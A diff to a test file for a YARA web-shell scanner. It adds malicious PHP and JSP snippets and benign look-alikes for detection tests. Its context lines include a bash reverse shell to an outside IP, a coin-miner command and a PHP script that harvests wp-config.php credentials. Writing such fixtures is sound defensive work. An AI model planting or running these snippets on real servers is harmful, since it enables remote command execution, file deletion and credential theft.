@@ -128,6 +128,14 @@ SNIPPETS: dict[str, bytes] = {
                                     b" readfile($t); ?>"),
     "php_config_harvester": (b"<?php foreach (file('/etc/passwd') as $l) { $u = explode(':', $l)[0];"
                              b" @readfile(\"/home/$u/public_html/wp-config.php\"); } ?>"),
+    "php_exec_fallback_chain": (b"<?php function run($c) { if (function_exists('passthru')) { passthru($c); }"
+                                b" elseif (function_exists('system')) { system($c); } elseif (is_callable('exec'))"
+                                b" { exec($c, $o); } elseif (function_exists('popen')) { pclose(popen($c, 'r')); }"
+                                b" } ?>"),
+    "php_file_operation_on_request": b"<?php if ($_POST['do'] == 'rm') { unlink($_POST['target']); } ?>",
+    "php_non_alphanumeric_code": (b"<?php $_ = []; $__ = $_ . ''; $___ = $__[3]; " + b"$__ .= $___ ^ $__; " * 12
+                                  + b"$_[$___]($_[$__]); ?>"),
+    "php_register_globals_upload": b'<?php if ($upfile) { copy($upfile, "$target/$upfile_name"); } ?>',
     # backdoors, miners, ransom notes (other files of the default set)
     "reverse_shell_one_liner": b"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
     "coin_miner": b"./run -o stratum+tcp://pool.example.net:3333 -u wallet",
@@ -149,6 +157,19 @@ BENIGN: dict[str, bytes] = {
     "template-data-url": b"<?php include('data://text/plain,' . urlencode($code)); ?>",
     # Python's pydoc evaluates a request for help, not a web request
     "pydoc": b"def help(request):\n    return eval(request)\n",
+    # a CMS falls back to its template called "system" (Joomla's HtmlDocument); nothing calls a variable
+    "template-named-system": (b"<?php if (!is_file($path)) { $dir = $base . '/system'; $template = 'system'; }"
+                              b" return $this->render($template, $params); ?>"),
+    # an application renames its own object with the name a form sent (phpMyAdmin's table operations)
+    "method-on-request-value": b"<?php if ($table->rename($_POST['new_name'])) { echo 'ok'; } ?>",
+    # Blade's compiled views use $__env and $__data: underscores followed by letters are names
+    "blade-compiled-view": b"<?php " + b"echo $__env->make('x', $__data)->render(); " * 20 + b"?>",
+    # an application copies an upload it took from $_FILES to a name it chose
+    "upload-from-files": (b"<?php $tmp = $_FILES['doc']['tmp_name']; $doc_name = basename($_FILES['doc']['name']);"
+                          b' move_uploaded_file($tmp, "$dir/$doc_name"); ?>'),
+    # a test asserts that an image's binary signature is absent (Drupal's image style tests)
+    "png-signature-in-a-test": (b"<?php $this->assertStringNotContainsString(chr(137) . chr(80) . chr(78)"
+                                b" . chr(71) . chr(13) . chr(10), $raw); ?>"),
 }
 
 RULE_NAME = re.compile(rb"^rule\s+(\w+)", re.M)
@@ -186,3 +207,9 @@ def test_every_web_shell_rule_names_a_reference() -> None:
         if path.stem.startswith("webshells"):
             text = path.read_text()
             assert text.count("reference = ") == len(RULE_NAME.findall(text.encode())), path.name
+
+
+def test_a_jsp_page_writing_request_text_through_a_file_variable_is_a_file_writer(scanner: YaraScanner) -> None:
+    page = (b'<% String p = request.getParameter("p"); File target = new File(p);\n'
+            b'PrintWriter w = new PrintWriter(target); w.println(request.getParameter("t")); w.close(); %>')
+    assert "webshells_java:jsp_file_writer" in {f.rule for f in scanner.scan("/x.jsp", page)}
